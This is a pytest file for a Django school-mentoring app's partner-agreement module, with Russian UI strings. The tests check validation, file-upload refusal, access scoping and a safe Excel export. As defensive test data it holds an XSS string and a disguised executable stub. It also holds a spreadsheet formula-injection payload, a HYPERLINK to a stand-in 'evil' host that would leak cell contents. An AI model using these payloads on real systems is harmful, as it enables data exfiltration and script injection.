import datetime
import io

import pytest
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from mentoring.common.models import PersonalDataAccess
from mentoring.library.tests.samples import docx_bytes
from mentoring.organizations.models import OrganizationKind, PartnerKind
from mentoring.organizations.tests.factories import OrganizationFactory
from mentoring.partners.models import Agreement
from mentoring.partners.tests.factories import SMALL_PDF, make_agreement, partner_mentor

WINDOWS_PROGRAM = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 64


def _partner(world, short_name, code, **fields):
    return OrganizationFactory(
        municipality=fields.pop("municipality", world.municipality),
        kind=OrganizationKind.PARTNER,
        partner_kind=fields.pop("partner_kind", PartnerKind.ENTERPRISE),
        short_name=short_name,
        code=code,
        **fields,
    )


def _form(world, **changes):
    data = {
        "organization": str(world.school.pk),
        "partner": str(world.partner.pk),
        "number": "7-С",
        "signed_on": "25.08.2025",
        "valid_from": "01.09.2025",
        "valid_until": "31.08.2027",
        "subject": "Сотрудничество в реализации программ наставничества «работодатель – ученик».",
        **changes,
    }
    return {key: value for key, value in data.items() if value is not None}


def _stored_files():
    if not default_storage.exists("partners"):
        return []
    folders, _ = default_storage.listdir("partners")
    return [name for folder in folders for name in default_storage.listdir(f"partners/{folder}")[1]]


def test_a_curator_registers_an_agreement_naming_the_partners_mentors(world, client_for):
    mentor = partner_mentor(world.partner, last_name="Лебедев", first_name="Илья")
    client = client_for(world.curator)
    url = f"{reverse('partners:agreement_create')}?partner={world.partner.pk}"
    assert "Лебедев Илья" in client.get(url).content.decode()
    response = client.post(
        url, _form(world, mentors=[str(mentor.pk)], file=SimpleUploadedFile("Соглашение 7-С.pdf", SMALL_PDF))
    )
    agreement = Agreement.objects.get()
    assert response.status_code == 302
    card = client.get(response["Location"]).content.decode()
    assert "Соглашение № 7-С от 25.08.2025" in card
    assert "Лебедев Илья" in card
    assert list(agreement.mentors.all()) == [mentor]
    assert PersonalDataAccess.objects.filter(object_type="agreement", object_id=agreement.pk).count() == 1
    download = client.get(reverse("partners:agreement_download", kwargs={"pk": agreement.pk}))
    assert b"".join(download.streaming_content) == SMALL_PDF


HOSTILE = [
    pytest.param({"number": ""}, "Обязательное поле", id="empty-number"),
    pytest.param({"subject": ""}, "Обязательное поле", id="empty-subject"),
    pytest.param({"subject": "С" * 10_000}, "не более 3000 символов", id="10000-characters"),
    pytest.param({"subject": "<script>alert(1)</script>"}, "угловые скобки", id="markup-in-subject"),
    pytest.param({"number": "7<b>С"}, "недопустимы", id="markup-in-number"),
    pytest.param({"signed_on": "31.02.2025"}, "Введите правильную дату", id="impossible-date"),
    pytest.param({"valid_from": "завтра"}, "Введите правильную дату", id="words-for-a-date"),
    pytest.param(
        {"valid_from": "01.09.2027", "valid_until": "31.08.2025"},
        "не может быть раньше его начала",
        id="dates-reversed",
    ),
    pytest.param(
        {"signed_on": "01.09.2027", "valid_until": "31.08.2027"}, "в будущем", id="signed-in-the-future"
    ),
    pytest.param({"partner": "SCHOOL"}, "Выберите корректный вариант", id="a-school-as-partner"),
    pytest.param({"partner": "FOREIGN"}, "Выберите корректный вариант", id="partner-of-another-municipality"),
    pytest.param({"organization": "OTHER"}, "Выберите корректный вариант", id="another-schools-name"),
]


@pytest.mark.parametrize(("changes", "message"), HOSTILE)
def test_bad_input_returns_the_form_with_a_russian_message_and_saves_nothing(
    changes, message, world, client_for
):
    substitutes = {
        "SCHOOL": str(world.other_school.pk),
        "FOREIGN": str(
            _partner(world, "Лукояновский техникум", "luk-p", municipality=world.other_municipality).pk
        ),
        "OTHER": str(world.other_school.pk),
    }
    changes = {key: substitutes.get(value, value) for key, value in changes.items()}
    if changes.get("signed_on") == "01.09.2027":
        changes["signed_on"] = (timezone.localdate() + datetime.timedelta(days=2)).strftime("%d.%m.%Y")
        changes["valid_until"] = ""
    response = client_for(world.curator).post(reverse("partners:agreement_create"), _form(world, **changes))
    assert response.status_code == 200
    assert message in response.content.decode()
    assert not Agreement.objects.exists()


def test_the_department_is_told_why_a_school_cannot_be_a_partner_and_a_foreign_partner_is_refused(
    world, client_for
):
    foreign = _partner(world, "Лукояновский техникум", "luk-p", municipality=world.other_municipality)
    client = client_for(world.superuser)
    response = client.post(
        reverse("partners:agreement_create"), _form(world, partner=str(world.other_school.pk))
    )
    assert "Выберите корректный вариант" in response.content.decode(), "schools are not offered as partners"
    response = client.post(reverse("partners:agreement_create"), _form(world, partner=str(foreign.pk)))
    assert response.status_code == 200
    assert "того же муниципалитета" in response.content.decode()
    assert not Agreement.objects.exists()


UPLOADS = [
    pytest.param("soglashenie.exe", WINDOWS_PROGRAM, "Допустимы только файлы", id="program"),
    pytest.param("соглашение.pdf", WINDOWS_PROGRAM, "не соответствует расширению", id="program-named-pdf"),
    pytest.param("соглашение.docx", docx_bytes(macros=True), "макросы", id="docx-with-macros"),
    pytest.param("соглашение.png", SMALL_PDF, "не соответствует расширению", id="pdf-named-png"),
]


@pytest.mark.parametrize(("name", "content", "message"), UPLOADS)
def test_a_scan_that_is_not_what_it_says_is_refused(name, content, message, world, client_for):
    response = client_for(world.curator).post(
        reverse("partners:agreement_create"), _form(world, file=SimpleUploadedFile(name, content))
    )
    assert response.status_code == 200
    assert message in response.content.decode()
    assert not Agreement.objects.exists()
    assert _stored_files() == []


def test_a_scan_larger_than_25_megabytes_is_refused(world, client_for):
    big = SimpleUploadedFile("скан.pdf", b"%PDF-1.4\n" + b"0" * (25 * 1024 * 1024))
    response = client_for(world.curator).post(reverse("partners:agreement_create"), _form(world, file=big))
    assert "Файл больше 25 МБ" in response.content.decode()
    assert not Agreement.objects.exists()


def test_a_curator_never_sees_another_schools_agreements(world, client_for):
    agreement = make_agreement(
        world.school, world.partner, by=world.curator, number="СЕКРЕТ-1", content=SMALL_PDF
    )
    client = client_for(world.other_curator)
    for name in ("partners:agreement_detail", "partners:agreement_download", "partners:agreement_edit"):
        assert client.get(reverse(name, kwargs={"pk": agreement.pk})).status_code == 404, name
    assert client.post(reverse("partners:agreement_delete", kwargs={"pk": agreement.pk})).status_code == 404
    assert "СЕКРЕТ-1" not in client.get(reverse("partners:agreement_list")).content.decode()
    assert "СЕКРЕТ-1" not in client.get(reverse("partners:list")).content.decode()
    assert Agreement.objects.filter(pk=agreement.pk).exists()


def test_the_partners_representative_reads_the_agreement_but_does_not_change_it(world, client_for):
    agreement = make_agreement(world.school, world.partner, by=world.curator)
    client = client_for(world.partner_representative)
    assert client.get(reverse("partners:agreement_detail", kwargs={"pk": agreement.pk})).status_code == 200
    assert client.get(reverse("partners:agreement_edit", kwargs={"pk": agreement.pk})).status_code == 403


def test_a_school_sees_its_partners_first_and_the_other_partners_of_the_municipality_as_candidates(
    world, client_for
):
    candidate = _partner(world, "Агротехникум", "sech-partner-2")
    _partner(world, "Лукояновский техникум", "luk-p", municipality=world.other_municipality)
    make_agreement(world.school, world.partner, by=world.curator, number="7-С")
    make_agreement(world.other_school, candidate, by=world.other_curator, number="МУР-1")
    page = client_for(world.curator).get(reverse("partners:list")).content.decode()
    assert page.index("СПК «Рассвет»") < page.index("Агротехникум")
    assert "№ 7-С" in page
    assert "МУР-1" not in page, "another school's agreement with a candidate stays hidden"
    assert "Оформить соглашение" in page
    assert "Лукояновский" not in page
    candidates = (
        client_for(world.curator).get(reverse("partners:list"), {"relation": "candidates"}).content.decode()
    )
    assert "Агротехникум" in candidates
    assert "СПК «Рассвет»" not in candidates


def test_the_department_sees_every_partner_of_the_municipality_and_filters_by_organization(world, client_for):
    candidate = _partner(world, "Агротехникум", "sech-partner-2")
    make_agreement(world.school, world.partner, by=world.curator, number="7-С")
    make_agreement(world.other_school, candidate, by=world.other_curator, number="МУР-1")
    client = client_for(world.methodologist)
    page = client.get(reverse("partners:list")).content.decode()
    assert "№ 7-С" in page
    assert "№ МУР-1" in page
    mine = client.get(reverse("partners:list"), {"organization": world.other_school.pk, "relation": "with"})
    text = mine.content.decode()
    assert "Агротехникум" in text
    assert "СПК «Рассвет»" not in text


def test_the_export_opens_in_excel_and_neutralises_formulas(world, client_for):
    hostile = _partner(world, '=HYPERLINK("http://evil/?"&A2)', "sech-evil", head_name="@SUM(1+1)")
    make_agreement(world.school, hostile, by=world.curator, number="-1+2")
    make_agreement(world.school, world.partner, by=world.curator, number="7-С")
    response = client_for(world.department_admin).get(reverse("partners:export"))
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert "attachment" in response["Content-Disposition"]
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    header = rows[1]
    assert header[0] == "Краткое наименование"
    by_name = {row[0]: dict(zip(header, row, strict=True)) for row in rows[2:]}
    evil = by_name["'" + '=HYPERLINK("http://evil/?"&A2)']
    assert evil["Руководитель"] == "'@SUM(1+1)"
    assert evil["Соглашений"] == 1
    assert "№ -1+2" in evil["Соглашения (организация, номер, срок)"]
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.coordinate
    assert by_name["СПК «Рассвет»"]["Действующих соглашений"] in (0, 1)


def test_the_export_follows_the_filters_and_the_users_scope(world, client_for):
    _partner(world, "Лукояновский техникум", "luk-p", municipality=world.other_municipality)
    _partner(world, "Агротехникум", "sech-partner-2")
    make_agreement(world.school, world.partner, by=world.curator)
    response = client_for(world.curator).get(reverse("partners:export"), {"relation": "with"})
    sheet = load_workbook(io.BytesIO(response.content)).active
    names = [row[0].value for row in sheet.iter_rows(min_row=3)]
    assert names == ["СПК «Рассвет»"]


def test_the_agreements_list_filters_by_status_partner_and_words(world, client_for):
    today = timezone.localdate()
    make_agreement(
        world.school, world.partner, by=world.curator, number="ДЕЙСТВ-1", valid_from=today, valid_until=None
    )
    make_agreement(
        world.school,
        world.partner,
        by=world.curator,
        number="ИСТЁК-2",
        signed_on=datetime.date(2020, 1, 1),
        valid_from=datetime.date(2020, 1, 1),
        valid_until=datetime.date(2021, 1, 1),
        subject="Профориентационные экскурсии на молочный завод",
    )
    client = client_for(world.curator)

    def numbers(**query):
        page = client.get(reverse("partners:agreement_list"), query).content.decode()
        return [number for number in ("ДЕЙСТВ-1", "ИСТЁК-2") if number in page]

    assert numbers() == ["ДЕЙСТВ-1", "ИСТЁК-2"]
    assert numbers(status="active") == ["ДЕЙСТВ-1"]
    assert numbers(status="expired") == ["ИСТЁК-2"]
    assert numbers(q="молочный ЗАВОД") == ["ИСТЁК-2"]
    assert numbers(q="истек") == ["ИСТЁК-2"]
    assert numbers(partner=world.partner.pk) == ["ДЕЙСТВ-1", "ИСТЁК-2"]


@pytest.mark.parametrize("extra", [0, 30])
def test_the_partner_pages_take_the_same_number_of_queries_with_few_and_many_rows(
    extra, world, client_for, django_assert_max_num_queries
):
    for number in range(3 + extra):
        partner = _partner(world, f"Партнёр № {number}", f"sech-p-{number}")
        agreement = make_agreement(world.school, partner, by=world.curator, number=str(number))
        agreement.mentors.add(partner_mentor(partner))
    for user in (world.department_admin, world.curator):
        client = client_for(user)
        for name in ("partners:list", "partners:agreement_list", "partners:export"):
            with django_assert_max_num_queries(10):
                response = client.get(reverse(name))
            assert response.status_code == 200, name


def test_an_agreement_with_mentors_is_not_deleted_from_its_card(world, client_for):
    agreement = make_agreement(world.school, world.partner, by=world.curator)
    agreement.mentors.add(partner_mentor(world.partner))
    response = client_for(world.head).post(
        reverse("partners:agreement_delete", kwargs={"pk": agreement.pk}), follow=True
    )
    assert "направлены наставники" in response.content.decode()
    assert Agreement.objects.filter(pk=agreement.pk).exists()
    mistaken = make_agreement(world.school, world.partner, by=world.curator, number="ОШИБКА")
    response = client_for(world.head).post(reverse("partners:agreement_delete", kwargs={"pk": mistaken.pk}))
    assert response["Location"] == reverse("partners:agreement_list")
    assert not Agreement.objects.filter(pk=mistaken.pk).exists()


def test_editing_an_agreement_extends_it_and_changes_its_mentors(world, client_for):
    first, second = partner_mentor(world.partner), partner_mentor(world.partner)
    agreement = make_agreement(world.school, world.partner, by=world.curator)
    agreement.mentors.add(first)
    client = client_for(world.curator)
    response = client.post(
        reverse("partners:agreement_edit", kwargs={"pk": agreement.pk}),
        _form(world, valid_until="", mentors=[str(second.pk)]),
    )
    assert response.status_code == 302
    agreement.refresh_from_db()
    assert agreement.valid_until is None
    assert list(agreement.mentors.all()) == [second]
    page = client.get(reverse("partners:agreement_detail", kwargs={"pk": agreement.pk})).content.decode()
    assert "бессрочно" in page
    assert "История изменений" in page


def test_a_partners_representative_sees_the_own_organization_and_its_agreements_only(world, client_for):
    _partner(world, "Агротехникум", "sech-partner-2")
    make_agreement(world.school, world.partner, by=world.curator, number="7-С")
    client = client_for(world.partner_representative)
    page = client.get(reverse("partners:list")).content.decode()
    assert "СПК «Рассвет»" in page
    assert "№ 7-С" in page
    assert "Агротехникум" not in page
    assert "Оформить соглашение" not in page, "a partner does not register agreements"
    assert client.get(reverse("partners:agreement_create")).status_code == 403
